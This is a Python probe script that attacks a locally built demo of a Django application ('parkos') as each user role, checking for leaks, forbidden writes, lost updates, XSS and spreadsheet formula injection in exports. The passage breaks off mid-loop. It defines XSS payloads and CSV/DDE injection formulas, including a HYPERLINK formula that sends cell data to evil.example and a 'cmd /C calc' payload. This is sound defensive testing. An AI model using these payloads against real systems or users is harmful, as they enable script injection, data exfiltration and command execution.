"""Attack a freshly loaded demo as every role, through every channel, with hostile payloads (issue 12's probe).

In-process, with django.test.Client and DRF's APIClient, against its own SQLite file (default
/tmp/probe.sqlite3, rebuilt each run unless --reuse): ``parkos demo --no-serve --scale 0.01``.

Channels: pages (list with filters, sort and search; detail; history; edit form GET and POST; delete), the
API (list with every filter and ?ordering= on every field; detail; PATCH with payloads; guarded fields;
If-Match with a stale ETag; workflow actions), exports (CSV, XLSX), the change log, global search, file
downloads and /media/ paths, imports (CSV upload with payload rows), and every page without arguments
(reports, figures, maps) with hostile query strings.

The oracles:

- server_error: any 5xx (or an exception out of the view);
- leak: a page links to an object outside ``Model.objects.restrict(user)``; an API list, detail or export
  shows a row outside it; a response names a confidential project the user may not read; ordering by a
  confidential field ranks hidden rows by their real values;
- forbidden_write: a write the role may not make succeeded (a guarded field, per core.writes, or an
  object out of scope, or a foreign key to an object the role may not see), checked in the database;
- lost_update: an update with a stale If-Match was applied;
- xss: ``<img src=x onerror`` / ``<svg onload`` raw in an HTML response;
- formula: a CSV cell starting with = + - @ (not a number), or an XLSX formula cell or string starting so;
- garbage: a control character or a formula-leading name stored through a write channel.

    PARKOS_DEBUG=1 .venv/bin/python bench/probe.py            # fresh demo at /tmp/probe.sqlite3
    PARKOS_DEBUG=1 .venv/bin/python bench/probe.py --write    # and the summary into bench/RESULTS.md

Exits 1 when anything failed.
"""

from __future__ import annotations

import argparse
import csv
import datetime
import io
import json
import os
import re
import sys
import time
import traceback
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

BENCH_DIR = Path(__file__).resolve().parent
PROJECT_DIR = BENCH_DIR.parent
RESULTS = BENCH_DIR / "RESULTS.md"
START = "<!-- probe: start -->"
END = "<!-- probe: end -->"

XSS = ["<img src=x onerror=alert(1)>", '"><svg onload=alert(2)>']
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
CONTROL = ["bad\x00nul", "bell\x07ring"]
SURROGATE = "lone\ud800surrogate"  # only where JSON carries it (\ud800 escaped)
NUMBERS = ["1e18", "99999999999999999999", "-1", "abc"]
DATES = ["0001-01-01", "9999-12-31", "2024-02-30"]
IDS = ["99999999999999999999", "-1", "abc", "0"]
RAW_XSS = re.compile(r"<img src=x onerror|<svg onload", re.I)
FORMULA_LEAD = ("=", "+", "-", "@")
NUMBER = re.compile(r"^[-+]?\d[\d,]*(\.\d+)?([eE][-+]?\d+)?%?$")


@dataclass
class Failure:
    klass: str
    role: str
    channel: str
    target: str
    payload: str
    outcome: str


class Probe:
    def __init__(self, args):
        from django.contrib.auth import get_user_model

        from parkos.core.permissions import ROLES

        self.args = args
        self.tried: Counter = Counter()  # channel -> probes
        self.failures: list[Failure] = []
        self.seen_failures: set = set()
        User = get_user_model()
        self.users = {}
        for role in ROLES:
            user = User.objects.filter(groups__name=role.name, is_active=True).order_by("pk").first()
            if user is not None:
                self.users[role.name] = user
        self.clients = {}
        self._visible: dict = {}
        self.models = self._models()
        self.prefixes = self._prefixes()
        self.planted: dict = {}  # (model label, pk) -> payload planted by the admin
        self.notes: Counter = Counter()  # context links to objects out of scope (not failures; see check_links)
        self._confide()
        self._secrets = {role: self._secrets_of(role) for role in self.users}  # before any payload is planted

    # --- set-up ---------------------------------------------------------------------------------------------

    def _models(self):
        from django.urls import NoReverseMatch, get_resolver, reverse

        from parkos.core.testing import _all_subclasses, object_views
        from parkos.core.views.generic import ObjectViews

        get_resolver().url_patterns  # noqa: B018 (imports every app's views)
        object_views  # noqa: B018
        found = []
        for views in _all_subclasses(ObjectViews):
            model = getattr(views, "model", None)
            if model is None or any(m is model for m, _v, _a in found):
                continue
            meta = model._meta
            try:
                api = reverse(f"{meta.app_label}-api:{meta.model_name}-list")
            except NoReverseMatch:
                api = None
            found.append((model, views, api))
        return sorted(found, key=lambda t: t[0]._meta.label)

    def _prefixes(self):
        from django.urls import reverse

        prefixes = {}
        for model, _views, _api in self.models:
            url = reverse(model.url_name(), kwargs={"pk": 987654321})
            prefixes[url.split("987654321")[0]] = model
        return prefixes

    def client(self, role):
        from django.test import Client
        from rest_framework.test import APIClient

        if role not in self.clients:
            page, api = Client(raise_request_exception=False), APIClient(raise_request_exception=False)
            if role != "anonymous":
                page.force_login(self.users[role])
                api.force_authenticate(self.users[role])
            self.clients[role] = (page, api)
        return self.clients[role]

    def visible(self, role, model) -> set:
        key = (role, model)
        if key not in self._visible:
            user = self.users.get(role)
            self._visible[key] = set(model.objects.restrict(user).values_list("pk", flat=True)) if user else set()
        return self._visible[key]

    def forget_scope(self):
        self._visible.clear()

    # --- recording --------------------------------------------------------------------------------------------

    def fail(self, klass, role, channel, target, payload, outcome):
        key = (klass, role, channel, target.split("?")[0], outcome[:80])
        if key in self.seen_failures:
            return
        self.seen_failures.add(key)
        self.failures.append(Failure(klass, role, channel, target, str(payload)[:120], outcome[:400]))

    def request(
        self, role, channel, method, url, payload="", *, api=False, data=None, headers=None, fmt="json", model=None
    ):
        """One probe: send, then run the response oracles (5xx, XSS, leaks, formula cells)."""
        page, api_client = self.client(role)
        c = api_client if api else page
        self.tried[channel] += 1
        try:
            kwargs = {"format": fmt} if api and method in ("post", "patch", "put") else {}
            response = getattr(c, method)(url, data, headers=headers or {}, **kwargs)
        except Exception as exc:  # noqa: BLE001 (a crash is the finding)
            self.fail("server_error", role, channel, url, payload, f"{type(exc).__name__}: {exc}"[:300])
            return None
        if response.status_code >= 500:
            exc = getattr(response, "exc_info", None)
            detail = "".join(traceback.format_exception_only(exc[1])).strip() if exc else ""
            self.fail("server_error", role, channel, url, payload, f"{response.status_code} {detail}"[:300])
            return response
        self.inspect(role, channel, url, payload, response, model)
        return response

    def inspect(self, role, channel, url, payload, response, model=None):
        ctype = response.get("Content-Type", "")
        body = b"".join(response.streaming_content) if response.streaming else response.content
        response._probe_body = body
        if "text/html" in ctype and response.status_code < 400 or "text/html" in ctype and "api" not in channel:
            text = body.decode("utf-8", "replace")
            match = RAW_XSS.search(text)
            if match:
                around = text[max(0, match.start() - 80) : match.end() + 40].replace("\n", " ")
                self.fail("xss", role, channel, url, payload, f"raw in HTML: …{around}…")
            if response.status_code == 200:
                self.check_links(role, channel, url, payload, text, model)
                self.check_secrets(role, channel, url, payload, text)
        elif "csv" in ctype:
            text = body.decode("utf-8-sig", "replace")
            self.check_csv(role, channel, url, payload, text)
            self.check_secrets(role, channel, url, payload, text)
        elif "spreadsheetml" in ctype:
            self.check_xlsx(role, channel, url, payload, body)
        elif "json" in ctype and response.status_code == 200:
            self.check_secrets(role, channel, url, payload, body.decode("utf-8", "replace"))

    # --- oracles ----------------------------------------------------------------------------------------------

    LINK = re.compile(r'href="(/[a-z0-9\-_/]+?/)(\d+)/')

    #: channels whose every link is a row the user asked to see (results, changes): any object out of scope leaks
    STRICT = ("search", "changelog", "change-page", "page-history")

    def check_links(self, role, channel, url, payload, text, model=None):
        """Links to objects outside restrict(): a failure for the rows of a list (its own model) and for every
        link of a search, change log or history page; elsewhere a related object named as context of an
        in-scope row (a request's park, a service's provider) is counted as a note."""
        if role == "operator_admin":
            return
        for prefix, pk in set(self.LINK.findall(text)):
            linked = self.prefixes.get(prefix)
            if linked is None or len(pk) > 12:
                continue
            if int(pk) not in self.visible(role, linked):
                if channel in self.STRICT or (
                    linked is model and channel.startswith(("page-list", "page-filter", "page-sort"))
                ):
                    self.fail(
                        "leak", role, channel, url, payload, f"links to {linked._meta.label} {pk}, outside restrict()"
                    )
                else:
                    self.notes[(role, channel, linked._meta.label)] += 1

    def _confide(self, n=4):
        """The demo has few confidential projects at a small scale: make ``n`` more in the investment staff's parks,
        owned by the admin with no team, so that the confidential oracles (names, ordering) have rows to watch."""
        from parkos.investment.models import Project

        if "investment_staff" not in self.users or "operator_admin" not in self.users:
            return
        from parkos.core.changelog import redact_history

        # projects no agreement or contact names in its title (those are typed text, see the report)
        candidates = Project.objects.filter(
            pk__in=self.visible("investment_staff", Project), agreements__isnull=True, contacts__isnull=True
        )
        for i, project in enumerate(candidates.order_by("pk")[:n]):
            Project.objects.filter(pk=project.pk).update(
                is_confidential=True, owner=self.users["operator_admin"], codename=f"Probe {i}"
            )
            Project.team.through.objects.filter(project_id=project.pk).delete()
            project.refresh_from_db()
            redact_history(project)  # what the write path does when a project becomes confidential
        self.forget_scope()

    def _secrets_of(self, role):
        """The real names (and descriptions) of confidential projects this role may not read."""
        from parkos.investment.models import Project

        user = self.users[role]
        visible = self.visible(role, Project)
        readable, hidden = set(), {}
        for project in Project.objects.all():
            texts = [project.name, (project.description or "")[:40]]
            if project.is_confidential and (project.pk not in visible or project.hidden_fields_for(user)):
                for text in texts:
                    hidden[text] = f"confidential project {project.pk}"
            else:
                readable.update(texts)
        return {t: why for t, why in hidden.items() if len(t) >= 6 and t not in readable}

    def secrets_for(self, role):
        return self._secrets.get(role, {})

    def check_secrets(self, role, channel, url, payload, text):
        if role in ("operator_admin", "anonymous"):
            return
        for name, why in self.secrets_for(role).items():
            if name in text and name not in str(payload):  # a page may echo what was asked (search)
                self.fail("leak", role, channel, url, payload, f"shows the {why}: {name!r}")

    def check_csv(self, role, channel, url, payload, text):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                if cell[:1] in FORMULA_LEAD and not NUMBER.match(cell):
                    self.fail("formula", role, channel, url, payload, f"CSV cell {cell[:60]!r}")

    def check_xlsx(self, role, channel, url, payload, body):
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(body))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f" or (
                        isinstance(value, str) and value[:1] in FORMULA_LEAD and not NUMBER.match(value)
                    ):
                        self.fail("formula", role, channel, url, payload, f"XLSX {cell.coordinate} {value!r:.60}")

    def check_rows(self, role, channel, url, payload, model, ids):
        if role == "operator_admin":
            return
        extra = set(ids) - self.visible(role, model)
        if extra:
            self.fail(
                "leak", role, channel, url, payload, f"{model._meta.label} rows outside restrict(): {sorted(extra)[:5]}"
            )

    # --- samples ----------------------------------------------------------------------------------------------

    def sample(self, model, role, n=2):
        """A few objects in the role's scope and a few out of it."""
        visible = self.visible(role, model)
        pks = list(model._base_manager.order_by("pk").values_list("pk", flat=True)[:400])
        inside = [pk for pk in pks if pk in visible][:n]
        outside = [pk for pk in pks if pk not in visible][:n]
        return inside, outside

    def roles(self):
        return list(self.users)

    # --- phases -----------------------------------------------------------------------------------------------

    def plant(self):
        """As the admin, write XSS and formula payloads into text fields of a few objects per model (API PATCH),
        so that every later page, export, search and history read meets them."""
        from django.db import models

        _page, api = self.client("operator_admin")
        for index, (model, _views, api_url) in enumerate(self.models):
            if api_url is None:
                continue
            payloads = XSS + FORMULAS
            for n, pk in enumerate(model._base_manager.order_by("pk").values_list("pk", flat=True)[:3]):
                texts = [
                    f.name
                    for f in model._meta.concrete_fields
                    if isinstance(f, models.CharField | models.TextField)
                    and not f.choices
                    and f.editable
                    and f.name not in ("codename", *model.confidential_fields)
                ]
                for name in texts:
                    value = payloads[(index + n + len(name)) % len(payloads)]
                    value = value[: model._meta.get_field(name).max_length or 200]
                    url = f"{api_url}{pk}/"
                    response = self.request(
                        "operator_admin", "api-plant", "patch", url, value, api=True, data={name: value}
                    )
                    if response is not None and response.status_code == 200:
                        self.planted[(model._meta.label, pk)] = value

    def pages(self):
        from django.urls import reverse

        for model, views, _api in self.models:
            list_url = reverse(model.url_name("list"))
            columns = (
                [n for n, col in views.table.base_columns.items() if col.orderable is not False] if views.table else []
            )
            filters = list(views.filterset.base_filters) if views.filterset else []
            for r, role in enumerate(self.roles()):
                self.request(role, "page-list", "get", list_url, model=model)
                self.request(role, "page-list", "get", list_url, XSS[0], data={"q": XSS[0]}, model=model)
                for i, column in enumerate(columns):
                    if (i + r) % len(self.users) == 0 or _hint(model):  # every column once, by one role or another
                        for sign in ("", "-")[: 1 + (i + r) % 2]:
                            self.request(
                                role,
                                "page-sort",
                                "get",
                                list_url,
                                f"sort={sign}{column}",
                                data={"sort": sign + column},
                                model=model,
                            )
                values = IDS + DATES[:2] + [XSS[1], "1e18"]
                for i, name in enumerate(filters):
                    if (i + r) % 2:
                        continue  # each filter by half the roles, each with another payload
                    value = values[(i + r) % len(values)]
                    self.request(
                        role, "page-filter", "get", list_url, f"{name}={value}", data={name: value}, model=model
                    )
                for fmt in ("csv", "xlsx"):
                    response = self.request(role, f"export-{fmt}", "get", list_url, "", data={"export": fmt})
                    if response is not None and response.status_code == 200 and fmt == "csv":
                        self._export_rows(role, list_url, model, response._probe_body)
                inside, outside = self.sample(model, role, 1)
                for pk in inside + outside:
                    for view in ("", "history", "edit"):
                        url = reverse(model.url_name(view), kwargs={"pk": pk})
                        response = self.request(role, f"page-{view or 'detail'}", "get", url, f"pk={pk}")
                        if pk in outside and response is not None and response.status_code == 200:
                            self.fail(
                                "leak", role, f"page-{view or 'detail'}", url, "", "200 on an object outside restrict()"
                            )
                for pk in IDS[:1]:
                    url = list_url + f"{pk}/"
                    self.request(role, "page-detail", "get", url, pk)
                # delete out of scope: must leave the object
                for pk in outside[:1]:
                    url = reverse(model.url_name("delete"), kwargs={"pk": pk})
                    self.request(role, "page-delete", "post", url, f"pk={pk}")
                    if not model._base_manager.filter(pk=pk).exists():
                        self.fail(
                            "forbidden_write", role, "page-delete", url, "", "deleted an object outside restrict()"
                        )

    def _export_rows(self, role, url, model, body):
        text = body.decode("utf-8-sig", "replace")
        rows = list(csv.DictReader(io.StringIO(text)))
        if rows and "id" in rows[0]:
            ids = {int(r["id"]) for r in rows if (r.get("id") or "").isdigit()}
            self.check_rows(role, "export-csv", url, "", model, ids)

    def api(self):
        from django.db import models

        for model, _views, api_url in self.models:
            if api_url is None:
                continue
            fields = [f for f in model._meta.concrete_fields]
            filters = self._api_filters(api_url)
            for r, role in enumerate(self.roles()):
                response = self.request(role, "api-list", "get", api_url, "", api=True, data={"page_size": 1000})
                if response is not None and response.status_code == 200:
                    ids = [row.get("id") for row in json.loads(response._probe_body).get("results", [])]
                    self.check_rows(role, "api-list", api_url, "", model, ids)
                for i, f in enumerate(fields):
                    if role == "operator_admin" or (i + r) % 3 == 0 or f.name in model.confidential_fields:
                        both = f.name in model.confidential_fields
                        for sign in ("", "-") if both else ("-" if (i + r) % 2 else "",):
                            resp = self.request(
                                role,
                                "api-ordering",
                                "get",
                                api_url,
                                f"ordering={sign}{f.name}",
                                api=True,
                                data={"ordering": sign + f.name, "page_size": 1000},
                            )
                            if f.name in model.confidential_fields and resp is not None and resp.status_code == 200:
                                self._ordering_oracle(role, model, api_url, f.name, sign, resp)
                values = IDS + DATES[:2] + ["1e18", XSS[0]]
                for i, name in enumerate(filters):
                    value = values[(i + r) % len(values)]
                    self.request(role, "api-filter", "get", api_url, f"{name}={value}", api=True, data={name: value})
                inside, outside = self.sample(model, role)
                for pk in outside:
                    resp = self.request(role, "api-detail", "get", f"{api_url}{pk}/", pk, api=True)
                    if resp is not None and resp.status_code == 200:
                        self.fail("leak", role, "api-detail", f"{api_url}{pk}/", "", "200 outside restrict()")
                for pk in IDS[:3]:
                    self.request(role, "api-detail", "get", f"{api_url}{pk}/", pk, api=True)
                for pk in inside:
                    self.request(role, "api-detail", "get", f"{api_url}{pk}/", pk, api=True)
                self._writes(model, api_url, role, inside, outside, models)

    def _api_filters(self, api_url):
        from django.urls import resolve

        view = resolve(api_url).func
        cls = getattr(view, "cls", None)
        fs = getattr(cls, "filterset_class", None)
        return list(fs.base_filters) if fs else []

    def _ordering_oracle(self, role, model, url, field, sign, response):
        """Hidden rows must not come back in the order of their hidden values."""
        user = self.users[role]
        ids = [row["id"] for row in json.loads(response._probe_body).get("results", [])]
        objs = {o.pk: o for o in model._base_manager.filter(pk__in=ids)}
        hidden = [pk for pk in ids if pk in objs and field in objs[pk].hidden_fields_for(user)]
        if len(hidden) < 3:
            return
        values = [str(getattr(objs[pk], field)) for pk in hidden]
        ordered = sorted(values, reverse=bool(sign))
        default = [pk for pk in model._base_manager.filter(pk__in=hidden).values_list("pk", flat=True)]
        if values == ordered and hidden != default:
            self.fail(
                "leak", role, "api-ordering", url, f"ordering={sign}{field}", "hidden rows ranked by their real values"
            )

    def _payloads_for(self, f, models, role, model):
        """(payload label, JSON value) pairs to send to field f."""
        if f.is_relation:
            related = f.related_model
            visible = self.visible(role, related) if hasattr(related.objects, "restrict") else None
            out = None
            if visible is not None:
                out = related._base_manager.exclude(pk__in=visible).order_by("pk").values_list("pk", flat=True).first()
            values = [("fk huge", 99999999999999999999), ("fk abc", "abc"), ("fk -1", -1)]
            if out is not None:
                values.append((f"fk out of scope {out}", out))
            return values
        if f.choices:
            return [("bad choice", XSS[0])]
        if isinstance(f, models.BooleanField):
            return [("bool junk", "maybe")]
        if isinstance(f, models.DateTimeField):
            return [(d, d + "T00:00:00Z") for d in DATES[:2]]
        if isinstance(f, models.DateField):
            return [(d, d) for d in DATES]
        if isinstance(f, models.DecimalField | models.FloatField):
            return [(n, n) for n in ("1e18", "99999999999999999999", "-1", "NaN", "Infinity")]
        if isinstance(f, models.IntegerField):
            return [(n, n) for n in ("99999999999999999999", "-1", "1e18")]
        if isinstance(f, models.JSONField):
            return [("json xss", {"x": XSS[0]})]
        if isinstance(f, models.CharField | models.TextField):
            return [(p, p) for p in CONTROL + [SURROGATE, FORMULAS[0], XSS[1]]]
        return []

    def _writes(self, model, api_url, role, inside, outside, models):
        from django.urls import reverse

        from parkos.core import writes
        from parkos.core.testing import _another_value, _as_json, _stored

        user = self.users[role]
        may_change = self.visible_change(role, model)
        # a few in-scope objects the role may change: payloads field by field
        targets = [pk for pk in inside if pk in may_change][:1]
        editable = [f for f in model._meta.concrete_fields if f.editable and not f.primary_key]
        editable += [f for f in model._meta.many_to_many]
        for pk in targets:
            url = f"{api_url}{pk}/"
            for f in editable:
                if f.many_to_many:
                    continue
                for label, value in self._payloads_for(f, models, role, model):
                    before = model._base_manager.filter(pk=pk).values_list(f.attname, flat=True).first()
                    if isinstance(value, str) and "\ud800" in value:
                        body = json.dumps({f.name: value}).encode()  # \ud800 escaped: JSON allows it
                        resp = self._raw_patch(role, url, f.name, label, body)
                    else:
                        resp = self.request(
                            role, "api-patch", "patch", url, f"{f.name}={label!r}", api=True, data={f.name: value}
                        )
                    if resp is None or resp.status_code != 200:
                        continue
                    after = model._base_manager.filter(pk=pk).values_list(f.attname, flat=True).first()
                    if after == before:
                        continue
                    if isinstance(after, str) and re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", after):
                        self.fail("garbage", role, "api-patch", url, f"{f.name}={label!r}", f"stored {after!r:.60}")
                    if f.is_relation and "out of scope" in label:
                        related = f.related_model
                        if after not in self.visible(role, related):
                            self.fail(
                                "forbidden_write",
                                role,
                                "api-patch",
                                url,
                                f"{f.name}={label}",
                                f"stored {f.name}={after}, outside restrict()",
                            )
                    # a stored value must not take reads down (the 1e18 class)
                    for channel, target, data in (
                        ("api-detail", url, None),
                        ("api-list", api_url, None),
                        ("page-detail", reverse(model.url_name(), kwargs={"pk": pk}), None),
                        ("page-list", reverse(model.url_name("list")), None),
                        ("export-csv", reverse(model.url_name("list")), {"export": "csv"}),
                    ):
                        self.request(
                            role,
                            channel,
                            "get",
                            target,
                            f"after {f.name}={label!r}",
                            api=channel.startswith("api"),
                            data=data,
                        )
                    if pk not in self.visible_change(role, model, fresh=True):
                        self.fail(
                            "forbidden_write",
                            role,
                            "api-patch",
                            url,
                            f"{f.name}={label!r}",
                            "the object left the role's scope",
                        )
            # stale If-Match
            resp = self.request(
                role,
                "api-if-match",
                "patch",
                url,
                'If-Match: "stale"',
                api=True,
                data={},
                headers={"If-Match": '"2000-01-01T00:00:00+00:00"'},
            )
            if resp is not None and resp.status_code < 300:
                self.fail(
                    "lost_update",
                    role,
                    "api-if-match",
                    url,
                    "stale If-Match",
                    f"{resp.status_code}: applied over a newer save",
                )
        # guarded fields: every object the role may change, each guard it may not pass
        guards = writes.rules_for(model).guards
        if guards:
            admin = self.users["operator_admin"]
            for pk in [pk for pk in may_change][:3]:
                obj = model._base_manager.get(pk=pk)
                for name, guard in guards.items():
                    if guard.may_set(user, obj):
                        continue
                    other = _another_value(obj, name, admin)
                    if other is None:
                        continue
                    url = f"{api_url}{pk}/"
                    before = _stored(obj, name)
                    self.request(
                        role,
                        "api-guarded",
                        "patch",
                        url,
                        f"{name}={_as_json(other)!r}",
                        api=True,
                        data={name: _as_json(other)},
                    )
                    if _stored(obj, name) != before:
                        self.fail(
                            "forbidden_write",
                            role,
                            "api-guarded",
                            url,
                            f"{name}={_as_json(other)!r}",
                            f"{name} changed",
                        )
                    form_url = reverse(model.url_name("edit"), kwargs={"pk": pk})
                    data = self._form_data(model, obj, user)
                    if data is None:
                        continue
                    data[name] = _as_json(other) if not isinstance(other, bool) else ("on" if other else "")
                    if isinstance(data[name], list):
                        pass
                    self.request(role, "page-edit-post", "post", form_url, f"{name}={data[name]!r}", data=data)
                    if _stored(obj, name) != before:
                        self.fail(
                            "forbidden_write",
                            role,
                            "page-edit-post",
                            form_url,
                            f"{name}={data[name]!r}",
                            f"{name} changed",
                        )
        # out of scope: PATCH must not write
        for pk in outside[:1]:
            url = f"{api_url}{pk}/"
            before = model._base_manager.filter(pk=pk).values().first()
            resp = self.request(role, "api-patch-out", "patch", url, "{}", api=True, data={})
            if resp is not None and resp.status_code < 300:
                self.fail(
                    "forbidden_write",
                    role,
                    "api-patch-out",
                    url,
                    "{}",
                    f"{resp.status_code} on an object outside restrict()",
                )
            after = model._base_manager.filter(pk=pk).values().first()
            if before != after and before and after:
                changed = {k for k in before if before[k] != after[k] and k != "last_updated"}
                if changed:
                    self.fail("forbidden_write", role, "api-patch-out", url, "{}", f"changed {changed}")

    def _raw_patch(self, role, url, name, label, body):
        _page, api = self.client(role)
        self.tried["api-patch"] += 1
        try:
            resp = api.generic("PATCH", url, body, content_type="application/json")
        except Exception as exc:  # noqa: BLE001
            self.fail("server_error", role, "api-patch", url, f"{name}={label!r}", f"{type(exc).__name__}: {exc}")
            return None
        if resp.status_code >= 500:
            self.fail("server_error", role, "api-patch", url, f"{name}={label!r}", str(resp.status_code))
        return resp

    def _form_data(self, model, obj, user):
        from django import forms
        from django.db.models.fields.files import FieldFile

        from parkos.core.testing import object_views

        try:
            form = object_views(model).form(instance=obj, user=user)
        except Exception:  # noqa: BLE001
            return None
        data = {}
        for name, field in form.fields.items():
            value = form.initial.get(name)
            if value is None:
                continue
            if isinstance(field, forms.ModelMultipleChoiceField):
                data[name] = [getattr(v, "pk", v) for v in value]
                continue
            if isinstance(field.widget, forms.CheckboxInput):
                if value:
                    data[name] = "on"
                continue
            if isinstance(value, FieldFile):
                continue  # a stored file is not posted back
            data[name] = json.dumps(value) if isinstance(value, dict | list) else getattr(value, "pk", value)
        return data

    def visible_change(self, role, model, fresh=False) -> set:
        key = (role, model, "change")
        if fresh or key not in self._visible:
            user = self.users[role]
            self._visible[key] = set(model.objects.restrict(user, "change").values_list("pk", flat=True))
        return self._visible[key]

    def forms(self):
        """Edit form POSTs with payloads in every text field, as each role that may change an object."""
        from django import forms as djforms
        from django.urls import reverse

        from parkos.core.testing import object_views

        for model, _views, _api in self.models:
            for role in self.roles():
                user = self.users[role]
                targets = sorted(self.visible_change(role, model))[:1]
                for pk in targets:
                    obj = model._base_manager.get(pk=pk)
                    data = self._form_data(model, obj, user)
                    if data is None:
                        continue
                    form = object_views(model).form(instance=obj, user=user)
                    url = reverse(model.url_name("edit"), kwargs={"pk": pk})
                    self._stale_form(role, model, pk, url, form, data)
                    for name, field in form.fields.items():
                        if field.disabled:
                            continue
                        if isinstance(field, djforms.CharField):
                            values = [XSS[0], FORMULAS[0], CONTROL[0]]
                        elif isinstance(field, djforms.DecimalField | djforms.IntegerField | djforms.FloatField):
                            values = ["99999999999999999999", "1e18", "-1"]
                        elif isinstance(field, djforms.DateField):
                            values = ["0001-01-01", "9999-12-31"]
                        elif isinstance(field, djforms.ModelChoiceField):
                            values = ["99999999999999999999", "abc"]
                        else:
                            continue
                        for value in values[:2]:
                            fresh = model._base_manager.get(pk=pk)
                            post = self._form_data(model, fresh, user) or {}
                            post[name] = value
                            resp = self.request(role, "page-edit-post", "post", url, f"{name}={value!r}", data=post)
                            if resp is not None and resp.status_code in (301, 302):
                                stored = (
                                    model._base_manager.filter(pk=pk)
                                    .values_list(
                                        model._meta.get_field(name).attname
                                        if name in {f.name for f in model._meta.concrete_fields}
                                        else "pk",
                                        flat=True,
                                    )
                                    .first()
                                )
                                if isinstance(stored, str) and "\x00" in stored:
                                    self.fail(
                                        "garbage",
                                        role,
                                        "page-edit-post",
                                        url,
                                        f"{name}={value!r}",
                                        f"stored {stored!r:.60}",
                                    )
                                self.request(
                                    role,
                                    "page-detail",
                                    "get",
                                    reverse(model.url_name(), kwargs={"pk": pk}),
                                    f"after {name}={value!r}",
                                )

    def _stale_form(self, role, model, pk, url, form, data):
        """The edit form posted back with the version of an older open: it must not overwrite a newer save."""
        from django import forms as djforms

        columns = {f.name for f in model._meta.concrete_fields}
        name = next(
            (
                n
                for n, f in form.fields.items()
                if type(f) is djforms.CharField and not f.disabled and n in data and n in columns
            ),
            None,
        )
        if name is None:
            return
        before = model._base_manager.filter(pk=pk).values_list(name, flat=True).first()
        post = {**data, name: f"{before or ''} stale"[:50], "opened_version": "2000-01-01T00:00:00+00:00"}
        resp = self.request(role, "page-edit-stale", "post", url, "opened_version=2000-01-01", data=post)
        after = model._base_manager.filter(pk=pk).values_list(name, flat=True).first()
        if resp is not None and resp.status_code in (301, 302) and after != before:
            self.fail("lost_update", role, "page-edit-stale", url, "stale opened_version", f"{name} overwritten")

    def actions(self):
        """Workflow actions of every viewset: bad ids, objects out of scope, empty and hostile bodies."""
        from django.urls import get_resolver

        seen = set()
        for pattern, name in self._api_action_patterns(get_resolver()):
            if pattern in seen:
                continue
            seen.add(pattern)
            for role in self.roles():
                for pk in ("abc", "99999999999999999999", "-1"):
                    url = pattern.replace("{pk}", pk)
                    self.request(role, "api-action", "post", url, f"pk={pk}", api=True, data={})
                model = name
                if model is None:
                    continue
                inside, outside = self.sample(model, role, 1)
                for pk in outside:
                    url = pattern.replace("{pk}", str(pk))
                    before = model._base_manager.filter(pk=pk).values().first()
                    resp = self.request(
                        role, "api-action", "post", url, f"pk={pk} out of scope", api=True, data={"note": XSS[0]}
                    )
                    if resp is not None and resp.status_code < 300:
                        self.fail("forbidden_write", role, "api-action", url, "out of scope", f"{resp.status_code}")
                    after = model._base_manager.filter(pk=pk).values().first()
                    if before and after and {k for k in before if before[k] != after[k] and k != "last_updated"}:
                        self.fail("forbidden_write", role, "api-action", url, "out of scope", "changed the object")
                for pk in inside:
                    url = pattern.replace("{pk}", str(pk))
                    for body in (
                        {},
                        {"note": XSS[0], "reason": FORMULAS[0], "organization": 99999999999999999999, "rating": -1},
                    ):
                        self.request(role, "api-action", "post", url, json.dumps(body)[:80], api=True, data=body)

    def _api_action_patterns(self, resolver):
        """'/api/services/requests/{pk}/accept/' for every detail action of every router."""
        from django.urls import reverse

        out = []
        for model, _views, api_url in self.models:
            if api_url is None:
                continue
            from django.urls import resolve

            cls = getattr(resolve(api_url).func, "cls", None)
            if cls is None:
                continue
            meta = model._meta
            for action in cls.get_extra_actions():
                if not action.detail:
                    continue
                try:
                    url = reverse(f"{meta.app_label}-api:{meta.model_name}-{action.url_name}", kwargs={"pk": 987654321})
                except Exception:  # noqa: BLE001
                    continue
                out.append((url.replace("987654321", "{pk}"), model))
        return out

    def bare_pages(self):
        """Every page and API endpoint without URL arguments (reports, figures, maps, search, change log)."""
        from django.urls import URLPattern, URLResolver, get_resolver

        skip = ("logout", "password", "admin/", "i18n", "login", "api/schema", "api/docs", "api/redoc")

        def walk(patterns, prefix=""):
            for p in patterns:
                if isinstance(p, URLResolver):
                    yield from walk(p.url_patterns, prefix + str(p.pattern))
                elif isinstance(p, URLPattern):
                    route = prefix + str(p.pattern)
                    if "<" in route or "(?P" in route or "^" in route:
                        continue
                    yield "/" + route

        urls = sorted({u for u in walk(get_resolver().url_patterns) if not any(s in u for s in skip)})
        urls = [u for u in urls if not u.endswith(("/add/", "/import/"))]
        params = [
            {},
            {"park": "99999999999999999999", "year": "-1"},
            {"year": "99999999999999999999", "district": XSS[0], "brand": "abc"},
            {"format": "csv"},
            {"export": "csv"},
            {"export": "xlsx"},
            {"start": "0001-01-01", "end": "9999-12-31", "date": "9999-12-31"},
            {"q": XSS[0]},
        ]
        for role in self.roles() + ["anonymous"]:
            for url in urls:
                api = url.startswith("/api/")
                for i, data in enumerate(params):
                    if role != "operator_admin" and i > 0 and (hash(url) + i) % 2:
                        continue
                    self.request(
                        role,
                        "api-other" if api else "page-other",
                        "get",
                        url,
                        json.dumps(data)[:80],
                        api=api,
                        data=data,
                    )

    def changelog(self):
        from django.urls import reverse

        from parkos.core.models import ObjectChange

        changes = list(ObjectChange.objects.order_by("-pk").values_list("pk", flat=True)[:40])
        changes += list(ObjectChange.objects.order_by("pk").values_list("pk", flat=True)[:20])
        for role in self.roles():
            self.request(role, "changelog", "get", reverse("changelog"))
            self.request(role, "changelog", "get", reverse("changelog"), "q", data={"q": XSS[0], "user": "abc"})
            for pk in changes[::2]:
                self.request(role, "change-page", "get", reverse("objectchange", kwargs={"pk": pk}), pk)

    def search(self):
        from django.urls import reverse

        from parkos.investment.models import Project

        terms = [XSS[0], FORMULAS[0], "\x00", "a" * 2000, "%", "_"]
        names = list(Project.objects.order_by("pk").values_list("name", flat=True)[:20])
        for role in self.roles():
            for term in terms + names[:: max(1, len(names) // 8)]:
